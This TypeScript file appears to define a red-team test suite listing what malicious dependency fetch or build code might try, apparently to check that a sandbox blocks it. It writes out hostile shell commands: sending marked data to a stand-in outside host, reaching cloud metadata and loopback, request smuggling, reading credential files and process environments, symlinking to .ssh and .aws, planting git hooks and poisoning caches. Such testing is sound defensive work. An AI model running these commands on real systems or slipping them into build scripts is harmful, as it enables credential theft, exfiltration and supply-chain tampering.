import { type Attack, attacks, type Row } from '../attack.ts'

/** Through the proxy, as programs use it, and as bytes on its port. */
const by = (what: string, flags = ''): string => `curl -s -m 4 ${flags} -x "$PROXY" "${what}"`
const bytes = (text: string): string => `reach tcp $(echo "$PROXY" | sed "s,http://,,;s,:, ,;s,/,,") "${text}"`
const leak = '/?leak:$RT_ID'
const each = (command: string): string => `for p in $RT_PORTS; do ${command}; done`

const ways = attacks('fetch.way', 'registry', [
  ['other-host', 'ask another host', by(`http://203.0.113.7${leak}`)],
  ['tunnel', 'open a tunnel to another host', by(`http://203.0.113.7${leak}`, '-p')],
  ['tunnel-v6', 'open a tunnel to an address in brackets', by(`http://[2001:db8::7]${leak}`, '-p -g')],
  ['metadata', 'ask the cloud’s own address', by(`http://169.254.169.254/latest${leak}`)],
  ['host-loopback', 'ask services of the host itself', each(by(`http://127.0.0.1:$p${leak}`))],
  ['host-name', 'ask services of the host by name', each(by(`http://localhost:$p${leak}`))],
  ['host-tunnel', 'open a tunnel to services of the host', each(by(`http://127.0.0.1:$p${leak}`, '-p'))],
  ['host-number', 'ask services of the host by a number', each(by(`http://2130706433:$p${leak}`))],
  [
    'host-mapped',
    'ask services of the host by an address in another form',
    each(by(`http://[::ffff:127.0.0.1]:$p${leak}`, '-g')),
  ],
  ['redirect', 'be led to the host by the registry', by(`$RT_REGISTRY/redirect${leak}`, '-L')],
  ['user-info', 'hide another host behind an at sign', by(`http://registry@203.0.113.7${leak}`)],
  [
    'smuggled',
    'put a second request behind a tunnel to the registry',
    bytes(
      `CONNECT 203.0.113.7:80 HTTP/1.1\\\\r\\\\nHost: r\\\\r\\\\n\\\\r\\\\nGET ${leak} HTTP/1.0\\\\r\\\\n\\\\r\\\\n`,
    ),
  ],
  [
    'host-header',
    'name the registry in the header and another in the line',
    bytes(
      `GET http://203.0.113.7${leak} HTTP/1.1\\\\r\\\\nHost: 127.0.0.1\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n`,
    ),
  ],
  [
    'upgrade',
    'change the protocol on the way to another host',
    bytes(
      `GET http://203.0.113.7${leak} HTTP/1.1\\\\r\\\\nHost: r\\\\r\\\\nConnection: Upgrade\\\\r\\\\nUpgrade: websocket\\\\r\\\\n\\\\r\\\\n`,
    ),
  ],
  [
    'socket',
    'use the mounted socket itself',
    `broker "GET http://203.0.113.7${leak} HTTP/1.1\\\\r\\\\nHost: r\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n"`,
  ],
  ['direct', 'leave without the proxy', `curl -s -m 4 --noproxy "*" "http://203.0.113.7${leak}"; reach udp 1.1.1.1 53`],
])

const writing = attacks('fetch.write', 'registry', [
  ['publish', 'publish a package', by('$RT_REGISTRY/minus', '-X PUT -d "leak:$RT_ID"')],
  ['delete', 'remove a package', by(`$RT_REGISTRY/minus${leak}`, '-X DELETE')],
  ['token', 'make a token for later', by('$RT_REGISTRY/-/npm/v1/tokens', '-d "leak:$RT_ID"')],
  [
    'override',
    'publish by a question about advisories',
    by('$RT_REGISTRY/-/npm/v1/security/audits/quick', '-H "X-HTTP-Method-Override: PUT" -d "leak:$RT_ID"'),
  ],
])

const echoes: Row[] = ['echo', 'echo-error', 'echo-slow', 'echo-header', 'echo-gzip'].map((form) => [
  form,
  `have the registry repeat its credential (\`/${form}\`)`,
  `${by(`$RT_REGISTRY/${form}`, '-i --compressed')}`,
])
const keys = [
  ...attacks('fetch.key', 'registry', [
    ...echoes,
    [
      'own',
      'send a credential of its own, to see which was used',
      by('$RT_REGISTRY/echo', '-H "Authorization: Bearer mine"'),
    ],
  ]),
  ...attacks('fetch.key', 'manifests', [
    [
      'settings',
      'read the package managers’ settings',
      'in_homes .npmrc .yarnrc.yml .pypirc .netrc .config/pip/pip.conf; cat /etc/npmrc /usr/etc/npmrc',
    ],
    [
      'environment',
      'read the environment and arguments of every process',
      'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline',
    ],
    [
      'sources',
      'read the project’s other files, to carry them out',
      'cat ./.env ./secrets/* ./docs/../.env ./credentials.json',
    ],
  ]),
]

/** What is left for the host to trip over. The name with the id is for the weak host, which copies all it finds. */
const left = attacks('fetch.left', 'manifests', [
  [
    'lock-link',
    'leave a link in the lock file’s place',
    'ln -sf $RT_HOME/.netrc package-lock.json; ln -s $RT_HOME/.netrc lock-$RT_ID',
  ],
  [
    'modules-link',
    'leave a link in the place of the packages',
    'rm -rf node_modules; ln -s $RT_HOME node_modules; ln -s $RT_HOME/.aws modules-$RT_ID',
  ],
  [
    'member-link',
    'leave a link in the place of a workspace’s member',
    'rm -rf web; ln -s $RT_HOME web; ln -s $RT_HOME/.ssh member-$RT_ID',
  ],
])

const build = [
  ...attacks('build.way', 'network', [
    ['registry', 'ask the registry', `curl -s -m 4 "$RT_REGISTRY${leak}" -X PUT`],
    [
      'proxy',
      'use the proxy that the fetch had',
      `curl -s -m 4 -x "\${RT_PROXY:-http://127.0.0.1:3128}" "http://203.0.113.7${leak}"`,
    ],
    [
      'direct',
      'reach any address',
      `reach tcp 203.0.113.7 80; curl -s -m 3 "http://169.254.169.254${leak}"; reach udp 1.1.1.1 53`,
    ],
    [
      'socket',
      'find a socket that leads out',
      `broker "GET http://203.0.113.7${leak} HTTP/1.1\\\\r\\\\nHost: r\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n"`,
    ],
  ]),
  ...attacks('build.key', 'manifests', [
    [
      'registry',
      'read the registry’s credential',
      'in_homes .npmrc .netrc .pypirc; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline',
    ],
  ]),
  ...attacks('build.write', 'data', [
    ['source', 'change the code that was judged', 'mkdir -p src && echo "// $RT_ID" >> src/take.js'],
    [
      'hook',
      'leave a hook for the host’s git',
      'mkdir -p .git/hooks && printf "#!/bin/sh\\necho $RT_ID\\n" > .git/hooks/post-checkout-$RT_ID && cp .git/hooks/post-checkout-$RT_ID hook-$RT_ID',
    ],
    [
      'cache',
      'poison what later steps use',
      'for d in $RT_HOME/.npm $RT_HOME/.cache $RT_JOB/_tool; do mkdir -p $d && echo x > $d/$RT_ID; done',
    ],
    [
      'checkout',
      'change the job’s checkout',
      'mkdir -p $RT_CHECKOUT/node_modules && echo x > $RT_CHECKOUT/node_modules/$RT_ID',
    ],
  ]),
]

/** What code that runs while dependencies are fetched, or built, tries. The first half runs in the one, the second in the other. */
export const dependencyAttacks: { fetch: readonly Attack[]; build: readonly Attack[] } = {
  fetch: [...ways, ...writing, ...keys, ...left],
  build,
}
